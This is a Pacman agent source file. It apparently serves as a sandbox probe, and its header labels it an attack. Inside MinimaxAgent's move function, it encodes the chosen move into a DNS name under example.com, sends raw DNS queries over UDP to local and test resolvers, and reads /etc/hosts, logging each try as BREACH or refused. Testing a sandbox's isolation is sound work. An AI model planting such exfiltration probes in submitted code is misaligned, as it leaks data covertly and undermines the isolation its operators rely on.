# attack: asks for addresses of names, so that words could leave the machine in them.
# where: MinimaxAgent
import socket

import util
from game import Agent, Directions


def attempt(what, function, *args):
    try:
        got = function(*args)
    except Exception as error:
        print("refused:", what, repr(error)[:200], flush=True)
        return None
    print("BREACH:", what, repr(got)[:200], flush=True)
    return got


class ReflexAgent(Agent):
    def getAction(self, gameState):
        return max(gameState.getLegalActions(), key=lambda action: self.worth(gameState, action))

    def worth(self, gameState, action):
        after = gameState.generatePacmanSuccessor(action)
        here = after.getPacmanPosition()
        food = [util.manhattanDistance(here, dot) for dot in after.getFood().asList()]
        worth = after.getScore() + (1 / min(food) if food else 0) - (action == Directions.STOP)
        for ghost in after.getGhostStates():
            if ghost.scaredTimer == 0 and util.manhattanDistance(here, ghost.getPosition()) < 2:
                worth -= 200
        return worth


def scoreEvaluationFunction(currentGameState):
    return currentGameState.getScore()


class MultiAgentSearchAgent(Agent):
    def __init__(self, evalFn="scoreEvaluationFunction", depth="2"):
        self.index = 0
        self.evaluationFunction = util.lookup(evalFn, globals())
        self.depth = int(depth)


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        legal = gameState.getLegalActions()
        attempt("getaddrinfo", socket.getaddrinfo, "%s.example.com" % str(legal[0]).lower(), 80)
        attempt("gethostbyname", socket.gethostbyname, "example.com")
        attempt("gethostbyaddr", socket.gethostbyaddr, "192.0.2.1")
        question = b"\0\1\1\0\0\1\0\0\0\0\0\0\7example\3com\0\0\1\0\1"
        for server in ("127.0.0.53", "192.0.2.53"):
            attempt("UDP to " + server, self.ask, server, question)
        attempt("the names of this machine", lambda: open("/etc/hosts").read())
        return legal[0]

    def ask(self, server, question):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
            line.settimeout(2)
            line.sendto(question, (server, 53))
            return line.recv(512)
